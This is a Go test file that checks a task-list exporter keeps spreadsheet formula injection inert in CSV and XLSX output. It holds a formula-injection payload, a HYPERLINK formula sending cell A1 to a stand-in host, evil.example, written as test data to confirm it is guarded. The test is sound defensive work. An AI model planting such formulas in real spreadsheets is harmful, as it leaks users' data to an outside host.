package track

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"planwatch/internal/cell/celltest"
)

// TestTaskListInert writes a plan whose every text begins like a formula
// (title, group, task, units, deadline, note, status) in both formats:
// no cell may run, and a unit's CSV returned untouched reads back as the
// notes that were written.
func TestTaskListInert(t *testing.T) {
	plan, items, updates := samplePlan()
	h := celltest.Hostile
	plan.Title = h[0]
	for i := range items {
		items[i].Title = h[i%len(h)] + items[i].Title
		items[i].Number = ""
		for j := range items[i].Units {
			items[i].Units[j].Unit = h[(i+j)%len(h)]
		}
	}
	items[1].Deadline = "=1+1"
	for i := range updates {
		// Not the ones starting with a tab or CR: a note is stored trimmed.
		updates[i].Note = h[i%4]
	}
	for _, format := range []string{"csv", "xlsx"} {
		var buf bytes.Buffer
		if err := WriteTaskList(&buf, format, plan, items, updates, sampleAsOf); err != nil {
			t.Fatal(err)
		}
		if format == "csv" {
			celltest.CSV(t, buf.Bytes())
			if !bytes.Contains(buf.Bytes(), []byte(`'=HYPERLINK(""http://evil.example/?""&A1`)) {
				t.Errorf("csv: the note is not there as guarded text:\n%s", buf.String())
			}
		} else {
			celltest.XLSX(t, buf.Bytes())
		}
		// Returned as exported: every row repeats its task's latest update.
		ups, errs, err := ReadProgress(context.Background(), bytes.NewReader(buf.Bytes()), format, plan, items, "", "", "2024-03-31",
			ReadOptions{Prev: updates})
		if err != nil || len(errs) != 0 || len(ups) != 0 {
			t.Errorf("%s read back: err %v, row errors %v, updates %+v", format, err, errs, ups)
		}
	}
}

// TestReadProgressGuardedNote reads a note the CSV export guarded with an
// apostrophe as the note itself.
func TestReadProgressGuardedNote(t *testing.T) {
	plan, items, _ := samplePlan()
	csv := "序号,进展情况\n一.1,'=1+1 已完成\n"
	ups, errs, err := ReadProgress(context.Background(), strings.NewReader(csv), "csv", plan, items, "", "", "2024-03-31", ReadOptions{Today: "2024-04-03"})
	if err != nil || len(errs) != 0 || len(ups) != 1 || ups[0].Note != "=1+1 已完成" {
		t.Fatalf("err %v, row errors %v, updates %+v", err, errs, ups)
	}
}
